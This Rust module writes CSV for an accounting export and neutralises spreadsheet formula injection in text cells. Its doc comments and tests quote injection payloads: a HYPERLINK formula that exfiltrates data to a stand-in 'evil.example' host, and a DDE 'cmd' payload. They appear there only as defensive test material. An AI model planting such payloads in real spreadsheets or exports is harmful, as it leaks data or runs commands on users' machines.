//! CSV for the export: RFC 4180 fields, and text cells a spreadsheet cannot run as formulas.
//!
//! The export's journals are opened in Excel, LibreOffice or Google Sheets by accountants.
//! A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a formula (and TAB or
//! CR as a way to smuggle one past a first-character check), so a customer named
//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would become a link that sends the sheet to a
//! stranger. Such text cells are neutralised as OWASP's "CSV Injection" page recommends: the
//! cell gets a leading `'` (which spreadsheets show as text, not a formula) and is quoted.
//!
//! Whether a cell is neutralised depends on its column's [`Kind`], never on its content:
//! amounts are numbers the program formatted itself (a credit note's `-12.60` must stay a
//! number a spreadsheet can sum), every other column may hold text that came from outside.

/// What a column holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Any text, possibly from the input: neutralised if it could start a formula.
    Text,
    /// A number this program formatted (`-12.60`, `19`, `3`): written as it is.
    Number,
}

/// One column of a CSV file: its header and what its cells hold.
#[derive(Clone, Copy, Debug)]
pub struct Column {
    pub name: &'static str,
    pub kind: Kind,
}

/// A text column.
pub const fn text(name: &'static str) -> Column {
    Column { name, kind: Kind::Text }
}

/// A number column.
pub const fn number(name: &'static str) -> Column {
    Column { name, kind: Kind::Number }
}

/// How a CSV file is spelled for the program that opens it.
///
/// Excel guesses a CSV file's encoding and separator from the system's locale: without a
/// byte order mark it reads UTF-8 as Windows-1252 ("JÃ¼rgen"), and continental Excel splits
/// on `;` and reads `12.60` as text (its decimal separator is `,`). The dialects give Excel
/// what it expects; the content is the same.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Dialect {
    /// RFC 4180: UTF-8 without BOM, `,` between fields, `.` in numbers. For programs.
    #[default]
    Plain,
    /// UTF-8 with a byte order mark, `,` and `.`: English-locale Excel.
    Excel,
    /// UTF-8 with a byte order mark, `;` between fields and a decimal comma in number
    /// columns (`-12,60`): continental (German, French…) Excel.
    ExcelSemicolon,
}

/// A text that is not a CSV dialect's name; the text completes `'<text>' …`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[error("is not a CSV dialect; expected plain, excel or excel-semicolon")]
pub struct DialectError;

impl Dialect {
    /// Parses `plain`, `excel` or `excel-semicolon`.
    pub fn parse(s: &str) -> Result<Dialect, DialectError> {
        match s {
            "plain" => Ok(Dialect::Plain),
            "excel" => Ok(Dialect::Excel),
            "excel-semicolon" => Ok(Dialect::ExcelSemicolon),
            _ => Err(DialectError),
        }
    }

    fn separator(self) -> u8 {
        if self == Dialect::ExcelSemicolon { b';' } else { b',' }
    }
}

/// The UTF-8 byte order mark the Excel dialects begin with.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Rows of a CSV file with fixed columns, in memory until [`Rows::take`]n: lines end in `\n`,
/// fields are quoted only when they must be (or when neutralised).
#[derive(Debug)]
pub struct Rows {
    columns: &'static [Column],
    bytes: Vec<u8>,
    dialect: Dialect,
}

impl Rows {
    /// A file with `columns`; its header line is the first row.
    pub fn new(columns: &'static [Column]) -> Rows {
        Rows::with_dialect(columns, Dialect::Plain)
    }

    /// A file with `columns` in `dialect`: the byte order mark (if any), then the header.
    pub fn with_dialect(columns: &'static [Column], dialect: Dialect) -> Rows {
        let bytes = if dialect == Dialect::Plain { Vec::new() } else { BOM.to_vec() };
        let mut rows = Rows { columns, bytes, dialect };
        rows.row(columns.iter().map(|c| c.name));
        rows
    }

    /// Appends one row: a value for each column, in order.
    ///
    /// # Panics
    /// If the number of values is not the number of columns (a bug in the caller).
    pub fn row<S: AsRef<str>>(&mut self, values: impl IntoIterator<Item = S>) {
        let mut count = 0;
        for value in values {
            let column = self.columns.get(count).expect("no more values than columns");
            if count > 0 {
                self.bytes.push(self.dialect.separator());
            }
            // Header names hold no `.`: only a number cell's decimal point becomes a comma.
            let decimal_comma = self.dialect == Dialect::ExcelSemicolon;
            dialect_cell(&mut self.bytes, value.as_ref(), column.kind, self.dialect.separator(), decimal_comma);
            count += 1;
        }
        assert_eq!(count, self.columns.len(), "one value per column");
        self.bytes.push(b'\n');
    }

    /// The rows written since the last call.
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.bytes)
    }
}

/// Appends `value` as one plain (RFC 4180) CSV field of a column of `kind`.
#[cfg(test)]
fn cell(out: &mut Vec<u8>, value: &str, kind: Kind) {
    dialect_cell(out, value, kind, b',', false);
}

/// Whether a spreadsheet could take `value`, a text cell, for a formula: it begins with `=`,
/// `+`, `-`, `@`, TAB or CR. Such text is written with a leading `'` (here and in DATEV's
/// Buchungstext).
pub(crate) fn could_start_a_formula(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Appends `value` as one CSV field of a column of `kind`, in a file whose fields are
/// separated by `separator`.
///
/// Text beginning with `=`, `+`, `-`, `@`, TAB or CR is neutralised: prefixed with `'` and
/// quoted. Any field holding the separator, a double quote, CR or LF is quoted, with its
/// double quotes doubled (RFC 4180). `decimal_comma` writes a number's decimal point as `,`.
fn dialect_cell(out: &mut Vec<u8>, value: &str, kind: Kind, separator: u8, decimal_comma: bool) {
    let converted;
    let value = if decimal_comma && kind == Kind::Number {
        converted = value.replace('.', ",");
        converted.as_str()
    } else {
        value
    };
    let neutralise = kind == Kind::Text && could_start_a_formula(value);
    let quote = neutralise || value.bytes().any(|b| b == separator || matches!(b, b'"' | b'\r' | b'\n'));
    if !quote {
        out.extend_from_slice(value.as_bytes());
        return;
    }
    out.push(b'"');
    if neutralise {
        out.push(b'\'');
    }
    for part in value.split_inclusive('"') {
        out.extend_from_slice(part.as_bytes());
        if part.ends_with('"') {
            out.push(b'"');
        }
    }
    out.push(b'"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text_cell(value: &str) -> String {
        let mut out = Vec::new();
        cell(&mut out, value, Kind::Text);
        String::from_utf8(out).unwrap()
    }

    fn number_cell(value: &str) -> String {
        let mut out = Vec::new();
        cell(&mut out, value, Kind::Number);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn the_issues_payloads_are_neutralised_in_text_cells() {
        assert_eq!(text_cell(r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#), r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#);
        assert_eq!(text_cell("+cmd|' /C calc'!A0"), r#""'+cmd|' /C calc'!A0""#);
        assert_eq!(text_cell("-2+3"), r#""'-2+3""#);
        assert_eq!(text_cell("@SUM(1+1)"), r#""'@SUM(1+1)""#);
        assert_eq!(text_cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(text_cell("\r=1+1"), "\"'\r=1+1\"");
    }

    #[test]
    fn other_text_is_written_as_rfc_4180_asks() {
        assert_eq!(text_cell("Jürgen Müller"), "Jürgen Müller");
        assert_eq!(text_cell(""), "");
        assert_eq!(text_cell("a=b"), "a=b");
        assert_eq!(text_cell("KL-INV-2026-000001 KL-CN-2026-000001"), "KL-INV-2026-000001 KL-CN-2026-000001");
        assert_eq!(text_cell("Acme, Inc."), "\"Acme, Inc.\"");
        assert_eq!(text_cell("the \"best\" shop"), "\"the \"\"best\"\" shop\"");
        assert_eq!(text_cell("\""), "\"\"\"\"");
        assert_eq!(text_cell("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn numbers_stay_numbers_whatever_their_sign() {
        assert_eq!(number_cell("-12.60"), "-12.60");
        assert_eq!(number_cell("1980"), "1980");
        assert_eq!(number_cell("+1"), "+1");
        // The same value in a text column is text, and neutralised.
        assert_eq!(text_cell("-12.60"), "\"'-12.60\"");
    }

    #[test]
    fn rows_have_a_header_and_one_field_per_column() {
        const COLUMNS: &[Column] = &[text("name"), number("net")];
        let mut rows = Rows::new(COLUMNS);
        rows.row(["=1+1", "-12.60"]);
        rows.row([String::from("Acme, Inc."), String::from("0.00")]);
        assert_eq!(String::from_utf8(rows.take()).unwrap(), "name,net\n\"'=1+1\",-12.60\n\"Acme, Inc.\",0.00\n");
        assert!(rows.take().is_empty(), "taken rows are not taken twice");
        // What a CSV reader makes of it: the text as written, behind the quote.
        let mut written = Rows::new(COLUMNS);
        written.row([r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#, "-1"]);
        let bytes = written.take();
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[0], r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#);
        assert_eq!(&record[1], "-1");
    }

    #[test]
    fn excel_dialects_have_a_bom_and_continental_excel_gets_semicolons_and_decimal_commas() {
        const COLUMNS: &[Column] = &[text("name"), number("net"), text("note")];
        let mut excel = Rows::with_dialect(COLUMNS, Dialect::Excel);
        excel.row(["Jürgen", "-12.60", "a;b"]);
        assert_eq!(excel.take(), "\u{feff}name,net,note\nJürgen,-12.60,a;b\n".as_bytes());
        let mut semicolon = Rows::with_dialect(COLUMNS, Dialect::ExcelSemicolon);
        semicolon.row(["Acme, Inc.", "-12.60", "a;b"]);
        semicolon.row(["=1+1", "1980", "x"]);
        assert_eq!(
            semicolon.take(),
            "\u{feff}name;net;note\nAcme, Inc.;-12,60;\"a;b\"\n\"'=1+1\";1980;x\n".as_bytes()
        );
        assert_eq!(Dialect::parse("excel-semicolon"), Ok(Dialect::ExcelSemicolon));
        assert_eq!(Dialect::parse("excel;"), Err(DialectError));
    }

    #[test]
    #[should_panic(expected = "one value per column")]
    fn a_short_row_is_a_bug() {
        const COLUMNS: &[Column] = &[text("a"), text("b")];
        Rows::new(COLUMNS).row(["x"]);
    }
}
